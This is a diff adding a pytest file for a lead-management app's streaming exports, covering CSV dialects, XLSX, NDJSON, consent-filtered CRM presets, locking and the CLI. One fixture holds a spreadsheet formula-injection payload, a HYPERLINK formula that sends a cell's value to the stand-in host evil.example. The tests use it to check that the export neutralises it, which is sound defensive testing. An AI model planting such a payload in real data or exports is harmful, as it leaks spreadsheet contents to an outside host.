@@ -1,0 +1,247 @@
+"""Streaming exports: CSV in both dialects (parsed with the stdlib csv module), XLSX
+(read back with openpyxl), NDJSON, CRM presets that hold only consented leads, the CLI."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import re
+import threading
+
+import openpyxl
+import pytest
+import sqlalchemy as sa
+from click.testing import CliRunner
+
+from consent import service as consent_service
+from export import service
+from leadvault import clock
+from leadvault.app import runtime
+from leadvault.cli import cli
+from leadvault.db import read_only
+from leadvault.models import Lead
+from tests.test_scoring import META, cli_env, contact_form, new_lead, uow
+
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def people(app):
+    """Three leads: one with umlauts and sales consent, one with a formula as company,
+    one with newsletter only (withdrawn later)."""
+    form_id = contact_form(app)
+    jurgen = new_lead(
+        app,
+        form_id,
+        "jürgen.müller@bäckerei.example",
+        profile={"first_name": "Jürgen", "last_name": "Müller", "company": "Bäckerei Größe"},
+        purposes=("newsletter", "sales_contact"),
+    )
+    mallory = new_lead(
+        app,
+        form_id,
+        "mallory@evil.example",
+        profile={"first_name": "+49 30 1234", "last_name": "-Mallory", "company": INJECTION},
+        purposes=("newsletter", "sales_contact"),
+    )
+    nora = new_lead(app, form_id, "nora@example.org", profile={"first_name": "Nora"})
+    with uow(app) as s:
+        consent_service.withdraw(s, nora, ["newsletter"], meta=META)
+    return {"jurgen": jurgen, "mallory": mallory, "nora": nora}
+
+
+def export_bytes(app, **kwargs) -> bytes:
+    selection = sa.select(Lead.id).order_by(Lead.created_at)
+    with app.app_context(), read_only(runtime(app).session_factory) as s:
+        plan = service.prepare(s, **kwargs)
+        buffer = io.BytesIO()
+        service.write(s, selection, plan, buffer, chunk_size=2)
+    return buffer.getvalue()
+
+
+def test_csv_default_dialect_parses_with_the_csv_module(app, people):
+    data = export_bytes(
+        app,
+        format="csv",
+        columns="id,email,first_name,last_name,company,stage,score,consent.newsletter,consent.newsletter.date,consent.newsletter.version",
+    )
+    assert not data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+    by_id = {row["id"]: row for row in rows}
+    assert set(by_id) == {str(v) for v in people.values()}
+    jurgen = by_id[str(people["jurgen"])]
+    assert jurgen["email"] == "jürgen.müller@bäckerei.example"
+    assert jurgen["company"] == "Bäckerei Größe"
+    assert jurgen["consent.newsletter"] == "granted"
+    assert jurgen["consent.newsletter.version"] == "1"
+    dt.datetime.strptime(jurgen["consent.newsletter.date"], "%Y-%m-%d %H:%M:%S")
+    assert float(jurgen["score"]) >= 0
+    mallory = by_id[str(people["mallory"])]
+    # Neutralised: a spreadsheet shows these as text, it does not run them.
+    assert mallory["company"] == "'" + INJECTION
+    assert mallory["first_name"] == "'+49 30 1234"
+    assert mallory["last_name"] == "'-Mallory"
+    nora = by_id[str(people["nora"])]
+    assert nora["consent.newsletter"] == "withdrawn" and nora["company"] == ""
+
+
+def test_csv_excel_de_has_bom_semicolons_and_decimal_commas(app, people):
+    # Ten days on, the score has decayed to a fraction.
+    clock.freeze(clock.now() + dt.timedelta(days=10))
+    data = export_bytes(
+        app, format="csv", columns="email,company,score,fit_points", dialect="excel-de"
+    )
+    assert data.startswith(b"\xef\xbb\xbf")
+    text = data.decode("utf-8-sig")
+    assert text.splitlines()[0] == "email;company;score;fit_points"
+    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+    jurgen = next(r for r in rows if r["email"].startswith("jürgen"))
+    assert re.fullmatch(r"\d+,\d", jurgen["score"]), jurgen["score"]
+    mallory = next(r for r in rows if r["email"].startswith("mallory"))
+    assert mallory["company"] == "'" + INJECTION
+
+
+def test_xlsx_reads_back_with_openpyxl(app, people, tmp_path):
+    path = tmp_path / "leads.xlsx"
+    selection = sa.select(Lead.id)
+    with app.app_context(), read_only(runtime(app).session_factory) as s:
+        plan = service.prepare(
+            s, format="xlsx", columns="email,company,score,created_at,suspect,consent.sales_contact"
+        )
+        assert service.write(s, selection, plan, path, chunk_size=2) == 3
+    book = openpyxl.load_workbook(path)
+    sheet = book["Leads"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0] == (
+        "email",
+        "company",
+        "score",
+        "created_at",
+        "suspect",
+        "consent.sales_contact",
+    )
+    by_email = {row[0]: row for row in rows[1:]}
+    jurgen = by_email["jürgen.müller@bäckerei.example"]
+    assert jurgen[1] == "Bäckerei Größe"
+    assert isinstance(jurgen[2], int | float)
+    assert isinstance(jurgen[3], dt.datetime)
+    assert jurgen[4] is False and jurgen[5] == "granted"
+    # A formula typed into a form stays text in a workbook cell.
+    cell = next(c for c in sheet["B"] if c.value == INJECTION)
+    assert cell.data_type == "s"
+    assert "About" in book.sheetnames
+
+
+def test_ndjson_has_one_object_per_lead(app, people):
+    data = export_bytes(app, format="ndjson", columns="id,email,created_at,consent.newsletter")
+    lines = [json.loads(line) for line in data.decode().splitlines()]
+    assert len(lines) == 3
+    assert {line["id"] for line in lines} == {str(v) for v in people.values()}
+    assert all(line["created_at"].endswith("Z") for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("preset", "email_header", "header"),
+    [
+        ("hubspot", "Email", ["Email", "First Name", "Last Name", "Company Name"]),
+        ("salesforce", "Email", ["First Name", "Last Name", "Email", "Company"]),
+        ("pipedrive", "Person - Email", ["Lead - Title", "Person - Name", "Person - Email"]),
+        ("mautic", "email", ["email", "firstname", "lastname", "company"]),
+    ],
+)
+def test_presets_hold_only_leads_with_sales_contact_consent(
+    app, people, preset, email_header, header
+):
+    data = export_bytes(app, format="csv", preset=preset)
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+    assert list(rows[0])[: len(header)] == header
+    emails = {row[email_header] for row in rows}
+    assert emails == {"jürgen.müller@bäckerei.example", "mallory@evil.example"}
+    consent_column = "leadvault_consent" if preset == "mautic" else "Leadvault consent"
+    assert all(row[consent_column].startswith("sales_contact granted ") for row in rows)
+    # Withdrawn since: gone from the next export.
+    with uow(app) as s:
+        consent_service.withdraw(s, people["mallory"], ["sales_contact"], meta=META)
+    again = list(
+        csv.DictReader(io.StringIO(export_bytes(app, format="csv", preset=preset).decode()))
+    )
+    assert {row[email_header] for row in again} == {"jürgen.müller@bäckerei.example"}
+
+
+def test_salesforce_fills_the_required_fields(app, people):
+    data = export_bytes(app, format="csv", preset="salesforce")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+    assert {row["Lead Source"] for row in rows} == {"Web"}
+    assert all(row["Last Name"] and row["Company"] for row in rows)
+
+
+def test_chunks_stream_and_the_row_count_is_exact(app, people):
+    selection = sa.select(Lead.id)
+    with app.app_context(), read_only(runtime(app).session_factory) as s:
+        plan = service.prepare(s, format="csv", columns="id")
+        tally = [0]
+        pieces = list(service.stream(s, selection, plan, tally=tally, chunk_size=2))
+    assert len(pieces) == 1 + 2  # the header, then one piece per chunk of two
+    assert tally == [3]
+
+
+def test_an_export_takes_no_write_lock(app, people):
+    """On SQLite a long export must not hold up writers (capture, the worker)."""
+    from leadvault.db import unit_of_work
+
+    selection = sa.select(Lead.id)
+    factory = runtime(app).session_factory
+    with app.app_context(), read_only(factory) as s:
+        plan = service.prepare(s, format="csv", columns="id,email")
+        pieces = service.stream(s, selection, plan, chunk_size=1)
+        next(pieces), next(pieces)  # the export is under way, its snapshot open
+        done = threading.Event()
+
+        def write() -> None:
+            with unit_of_work(factory) as w:
+                w.execute(sa.update(Lead).values(language="de"))
+            done.set()
+
+        thread = threading.Thread(target=write)
+        thread.start()
+        assert done.wait(10), "a writer waited for the export"
+        thread.join()
+        assert len(list(pieces)) == 2  # and the export goes on
+
+
+def test_bad_requests_name_the_problem(app):
+    with app.app_context(), read_only(runtime(app).session_factory) as s:
+        with pytest.raises(service.ExportError, match="unknown column 'shoe_size'"):
+            service.prepare(s, columns="email,shoe_size")
+        with pytest.raises(service.ExportError, match=r"consent\.PURPOSE"):
+            service.prepare(s, columns="consent.cooking")
+        with pytest.raises(service.ExportError, match="unknown preset"):
+            service.prepare(s, preset="excel2000")
+        with pytest.raises(service.ExportError, match="either"):
+            service.prepare(s, preset="hubspot", columns="email")
+
+
+def test_export_command(app, people, tmp_path):
+    runner = CliRunner()
+    env = cli_env(app)
+    out = tmp_path / "crm.csv"
+    result = runner.invoke(cli, ["export", "--preset", "hubspot", "-o", str(out)], env=env)
+    assert result.exit_code == 0, result.output
+    assert "2 leads exported" in result.output and "sales_contact" in result.output
+    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 2
+
+    piped = runner.invoke(
+        cli, ["export", "--columns", "id,stage", "--purpose", "newsletter"], env=env
+    )
+    assert piped.exit_code == 0, piped.output
+    lines = [line for line in piped.stdout.splitlines() if line]
+    assert lines[0] == "id,stage" and len(lines) == 1 + 2
+
+    book = tmp_path / "leads.xlsx"
+    xlsx = runner.invoke(cli, ["export", "--format", "xlsx", "-o", str(book)], env=env)
+    assert xlsx.exit_code == 0 and openpyxl.load_workbook(book)["Leads"].max_row == 4
+
+    bad = runner.invoke(cli, ["export", "--columns", "email,shoe_size"], env=env)
+    assert bad.exit_code == 2 and "unknown column 'shoe_size'" in bad.output
